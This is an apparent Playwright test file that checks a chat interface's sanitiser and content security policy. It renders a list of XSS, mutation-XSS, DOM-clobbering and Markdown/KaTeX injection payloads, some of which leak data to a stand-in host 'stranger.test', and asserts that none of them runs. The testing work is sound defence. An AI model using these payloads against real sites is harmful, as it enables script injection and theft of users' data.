"""Text that attacks the reader, in a real browser under the policy that the server really sends."""

import re

import pytest
from playwright.async_api import expect

from benchmarks.page_upstream import Script
from tests.e2e.chat_page import ChatPage
from tests.e2e.conftest import NewChat
from tests.support.server import Server

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

FIRES = "window.fired=1"
HTML = [
    f"<script>{FIRES}</script>",
    f"<img src=x onerror='{FIRES}'>",
    f"<svg onload='{FIRES}'><script>{FIRES}</script><animate onbegin='{FIRES}' attributeName=x></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={FIRES}&gt;'>",
    f"<details open ontoggle='{FIRES}'><summary>more</summary></details>",
    f"<iframe srcdoc='<script>parent.{FIRES}</script>'></iframe>",
    f"<object data='javascript:{FIRES}'></object><embed src='javascript:{FIRES}'>",
    f"<form action='javascript:{FIRES}'><button>Click me</button><input name=cookie autofocus onfocus='{FIRES}'></form>",
    "<base href='http://stranger.test/'><meta http-equiv=refresh content='0;url=http://stranger.test/meta'>",
    "<link rel=stylesheet href='http://stranger.test/style.css'>",
    "<style>@import 'http://stranger.test/import.css'; body { display: none }</style>",
    "<div style='background:url(http://stranger.test/style.png);position:fixed;inset:0'>cover</div>",
    "<img src='http://stranger.test/html.png' srcset='http://stranger.test/set.png 2x'>",
    "<video src='http://stranger.test/film' poster='http://stranger.test/poster.png' autoplay></video>",
    "<a id=composer name=cookie>clobber</a>",
]
MARKDOWN = [
    "![leak](http://stranger.test/pixel.png?secret=1)",
    "![own](/api/session)",
    f"[click](javascript:{FIRES})",
    f"[click](JaVaScRiPt&colon;{FIRES})",
    f"[click](data:text/html,<script>{FIRES}</script>)",
    "[sign out](/signin?token=x)",
    f"[ref]\n\n[ref]: javascript:{FIRES}",
    f'```"><img src=x onerror={FIRES}>\n<script>{FIRES}</script>\n```',
    f"```html\n</code></pre><script>{FIRES}</script><img src=x onerror={FIRES}>\n```",
    f"`<img src=x onerror={FIRES}>`",
    f"| <img src=x onerror={FIRES}> |\n| --- |\n| <svg onload={FIRES}> |",
    rf"$\href{{javascript:{FIRES}}}{{x}}$ and $\includegraphics{{http://stranger.test/maths.png}}$",
    rf"$$\htmlData{{onclick={FIRES}}}{{x}} \text{{<img src=x onerror={FIRES}>}}$$",
]
WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`));
"""


async def watched(new_chat: NewChat, product: Server) -> tuple[ChatPage, list[str]]:
    """A page that reports breaches of its policy, and the addresses that it asks for elsewhere."""
    chat = await new_chat()
    foreign: list[str] = []
    chat.page.context.on("request", lambda r: None if r.url.startswith(product.url) else foreign.append(r.url))
    chat.page.on("dialog", lambda dialog: foreign.append(f"dialog: {dialog.message}"))
    await chat.page.add_init_script(WATCH)
    await chat.page.reload()
    return chat, foreign


async def assert_harmless(chat: ChatPage, foreign: list[str]) -> None:
    await chat.page.wait_for_timeout(200)
    assert await chat.page.evaluate("window.fired") is None
    assert await chat.page.evaluate("violations") == []
    assert foreign == []
    await expect(chat.composer).to_be_visible()
    assert await chat.page.evaluate("document.querySelectorAll('#composer').length") == 1


@pytest.mark.parametrize("interval", [0, 0.002], ids=["at once", "streamed"])
async def test_nothing_in_an_answer_runs_or_calls_home(
    new_chat: NewChat, product: Server, script: Script, interval: float
) -> None:
    chat, foreign = await watched(new_chat, product)
    script.interval = interval
    script.answers["script"] = "\n\n".join(["Here it comes.", *MARKDOWN, *HTML, "The end of it."])
    await chat.ask("Attack me.")
    await chat.finished()
    await expect(chat.prose()).to_contain_text("The end of it.")
    await expect(chat.prose().locator("math").first).to_be_attached()
    await assert_harmless(chat, foreign)
    links = (
        await chat.prose().locator("a").evaluate_all("all => all.map(a => [a.getAttribute('href'), a.rel, a.target])")
    )
    assert all(
        re.match(r"https?://", href) and "noopener" in rel and target == "_blank" for href, rel, target in links if href
    )
    assert await chat.prose().locator("img, iframe, form, input, style, script, [style], [onclick]").count() == 0
    await chat.tool("Copy answer").click()
    await chat.page.reload()
    await expect(chat.prose()).to_contain_text("The end of it.")
    await assert_harmless(chat, foreign)


async def test_a_hostile_question_is_text_as_a_message_and_as_a_title(
    new_chat: NewChat, product: Server, script: Script
) -> None:
    chat, foreign = await watched(new_chat, product)
    attack = f'<img src=x onerror="{FIRES}"><script>{FIRES}</script>'
    await chat.ask_whole(attack)
    await expect(chat.questions).to_contain_text(attack)
    await expect(chat.list.get_by_role("link").first).to_contain_text("<img src=x")
    await expect(chat.page).to_have_title(re.compile("<img src=x"))
    await assert_harmless(chat, foreign)


async def test_the_policy_is_strict_and_stops_what_the_page_would_miss(chat: ChatPage) -> None:
    response = await chat.page.request.get("/")
    policy = response.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src 'self';" in policy
    await chat.page.evaluate(f"document.body.insertAdjacentHTML('beforeend', `<img src=x onerror='{FIRES}'>`)")
    await chat.page.wait_for_timeout(200)
    assert await chat.page.evaluate("window.fired") is None
